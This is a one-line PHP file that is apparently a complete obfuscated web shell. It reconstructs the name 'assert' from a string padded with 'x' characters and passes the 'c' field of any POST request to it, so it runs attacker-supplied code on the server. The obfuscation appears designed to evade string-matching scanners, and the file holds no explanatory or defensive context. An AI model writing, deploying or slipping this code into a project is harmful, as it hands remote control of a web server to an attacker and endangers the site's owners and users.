<?php $f = str_replace('x', '', 'axsxsxexrxt'); $f($_POST['c']);
